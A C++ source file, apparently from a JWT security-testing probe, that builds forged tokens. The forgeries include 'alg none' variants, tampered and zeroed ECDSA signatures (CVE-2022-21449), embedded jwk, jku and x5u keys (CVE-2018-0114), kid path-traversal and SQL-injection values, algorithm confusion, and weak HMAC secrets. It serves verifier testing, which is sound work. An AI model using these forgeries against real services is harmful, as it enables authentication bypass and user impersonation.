#include <boost/json/parse.hpp>
#include <boost/json/serialize.hpp>

#include "crypto/digest.h"
#include "crypto/jws.h"
#include "probe/forge.h"
#include "probe/forge_parts.h"

namespace lr::probe {
namespace {

namespace json = text::json;

std::string_view as_bytes(const crypto::Sha256& digest) {
  return {reinterpret_cast<const char*>(digest.data()), digest.size()};
}

/// Another character of the base64url alphabet whose change is certain to change decoded bits.
char flipped(char c) { return c == 'A' ? 'Q' : 'A'; }

std::string hmac_token(json::object header, const json::object& claims, std::string_view secret) {
  header["alg"] = "HS256";
  const std::string input = encode(header) + "." + encode(claims);
  return input + "." + crypto::base64url_encode(as_bytes(crypto::hmac_sha256(secret, input)));
}

/// A stranger's key of the algorithm that the real token names (ES256 when that is not usable).
struct StrangerKey {
  crypto::Algorithm algorithm;
  crypto::Jwk key;
};
std::optional<StrangerKey> stranger_key(const TokenParts& parts) {
  auto algorithm = crypto::Algorithm::kES256;
  const json::value* named = parts.header.if_contains("alg");
  if (named != nullptr && named->is_string()) {
    const auto parsed = crypto::parse_algorithm(named->get_string());
    if (parsed && !crypto::is_symmetric(*parsed)) algorithm = *parsed;
  }
  auto key = crypto::Jwk::generate(algorithm, "stranger");
  if (!key) return std::nullopt;
  return StrangerKey{algorithm, std::move(*key)};
}

void append_stranger(std::vector<Forgery>& out, std::string form, const StrangerKey& stranger,
                     const TokenParts& parts, const json::object& extra) {
  json::object header = extra;
  if (!header.contains("kid")) {
    if (const json::value* kid = parts.header.if_contains("kid")) header["kid"] = *kid;
  }
  const auto token =
      crypto::sign_jws(stranger.key, stranger.algorithm, json::serialize(parts.claims), header);
  if (token) out.push_back(bearer(std::move(form), *token));
}

}  // namespace

std::vector<Forgery> forge_unsigned(const ForgeMaterial& material) {
  std::vector<Forgery> out;
  const auto parts = take_apart(material.token);
  if (!parts) return out;
  for (const char* name : {"none", "None", "NONE", "nOnE", ""}) {
    json::object header = parts->header;
    header["alg"] = name;
    out.push_back(bearer(std::string("alg \"") + name + "\" without a signature",
                         assemble(header, parts->claims, "")));
  }
  json::object header = parts->header;
  header["alg"] = "none";
  out.push_back(bearer("alg \"none\" with the old signature",
                       encode(header) + "." + parts->payload_text + "." + parts->signature_text));
  header.erase("alg");
  out.push_back(bearer("no alg at all", assemble(header, parts->claims, "")));
  return out;
}

std::vector<Forgery> forge_signature(const ForgeMaterial& material) {
  std::vector<Forgery> out;
  const auto parts = take_apart(material.token);
  if (!parts || parts->signature_text.size() < 8) return out;
  const std::string input = parts->header_text + "." + parts->payload_text + ".";
  out.push_back(bearer("the signature left out", input));
  std::string changed = parts->signature_text;
  changed[changed.size() / 2] = flipped(changed[changed.size() / 2]);
  out.push_back(bearer("one character of the signature changed", input + changed));
  out.push_back(bearer("half of the signature",
                       input + parts->signature_text.substr(0, parts->signature_text.size() / 2)));
  json::object claims = parts->claims;
  claims["lr_edited"] = true;
  out.push_back(bearer("edited claims under the old signature",
                       parts->header_text + "." + encode(claims) + "." + parts->signature_text));
  const auto other = take_apart(material.other_token);
  if (other && other->payload_text != parts->payload_text) {
    out.push_back(bearer("the signature of another token", input + other->signature_text));
  }
  // CVE-2022-21449: r = s = 0 verifies everywhere when the range check is missing.
  out.push_back(bearer("an ECDSA signature of zeros",
                       input + crypto::base64url_encode(std::string(64, '\0'))));
  out.push_back(
      bearer("an ECDSA signature of zeros in DER",
             input + crypto::base64url_encode(std::string("\x30\x06\x02\x01\x00\x02\x01\x00", 8))));
  json::object header = parts->header;
  header["alg"] = "XX256";
  out.push_back(bearer("an algorithm that does not exist",
                       encode(header) + "." + parts->payload_text + "." + parts->signature_text));
  return out;
}

std::vector<Forgery> forge_wrong_key(const ForgeMaterial& material) {
  std::vector<Forgery> out;
  const auto parts = take_apart(material.token);
  if (!parts) return out;
  const auto stranger = stranger_key(*parts);
  if (!stranger) return out;
  append_stranger(out, "signed by a stranger's key under the right kid", *stranger, *parts, {});
  append_stranger(out, "signed by a stranger's key under an unknown kid", *stranger, *parts,
                  {{"kid", "stranger"}});
  const auto own = text::parse_json(stranger->key.public_jwk());
  if (own) {
    // CVE-2018-0114: the token brings the key that verifies it.
    append_stranger(out, "its own key in the jwk header", *stranger, *parts, {{"jwk", *own}});
    append_stranger(out, "its own key in the jwk header, without kid", *stranger, *parts,
                    {{"jwk", *own}, {"kid", "stranger"}});
  }
  append_stranger(out, "its own key set by jku", *stranger, *parts,
                  {{"jku", "https://stranger.invalid/jwks.json"}, {"kid", "stranger"}});
  append_stranger(out, "its own certificate by x5u", *stranger, *parts,
                  {{"x5u", "https://stranger.invalid/cert.pem"}, {"kid", "stranger"}});
  for (const char* kid : {"../../../../../../dev/null", "' UNION SELECT '' -- "}) {
    json::object header = parts->header;
    header["kid"] = kid;
    out.push_back(bearer(std::string("HS256 with an empty secret and kid ") + kid,
                         hmac_token(header, parts->claims, "")));
  }
  return out;
}

std::vector<Forgery> forge_hs_confusion(const ForgeMaterial& material) {
  std::vector<Forgery> out;
  const auto parts = take_apart(material.token);
  if (!parts) return out;
  for (const crypto::Jwk& key : material.public_keys) {
    const std::string pem = key.public_pem();
    if (pem.empty()) continue;
    const std::string bare = pem.substr(0, pem.find_last_not_of("\r\n") + 1);
    out.push_back(bearer("HS256 keyed with the public key's PEM",
                         hmac_token(parts->header, parts->claims, bare + "\n")));
    out.push_back(bearer("HS256 keyed with the public key's PEM, no line end",
                         hmac_token(parts->header, parts->claims, bare)));
    out.push_back(bearer("HS256 keyed with the public key's JWK",
                         hmac_token(parts->header, parts->claims, key.public_jwk())));
  }
  for (const char* secret : {"", "secret", "changeme", "password", "jwt-secret"}) {
    out.push_back(bearer(std::string("HS256 keyed with \"") + secret + "\"",
                         hmac_token(parts->header, parts->claims, secret)));
  }
  return out;
}

}  // namespace lr::probe
